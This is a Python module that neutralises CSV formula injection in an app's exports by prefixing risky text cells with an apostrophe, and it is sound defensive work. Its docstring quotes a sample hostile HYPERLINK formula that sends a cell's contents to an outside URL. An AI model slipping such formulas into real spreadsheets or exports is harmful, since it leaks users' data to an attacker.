"""CSV cells that a spreadsheet would run as formulas ("CSV injection"), neutralized: the one helper
for every CSV the app writes (view exports, the rejects of an import).

A text cell starting with = + - @ (or a tab / carriage return, which Excel skips before one) is
read by Excel and LibreOffice as a formula, e.g. `=HYPERLINK("http://…?"&A1, "click")` from a
hostile row. A leading apostrophe makes them show the text as it is; the rest is kept whole.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_START = frozenset("=+-@\t\r")


def guard_formula(value: Any) -> Any:
    """`value` with a leading apostrophe if it is text a spreadsheet would run; anything else as is."""
    if type(value) is str and value and value[0] in FORMULA_START:
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer whose text cells go through guard_formula (numbers and None are written as they are)."""

    def __init__(self, stream: Any, **format_params: Any) -> None:
        self._writer = csv.writer(stream, **format_params)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([guard_formula(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows([guard_formula(value) for value in row] for row in rows)
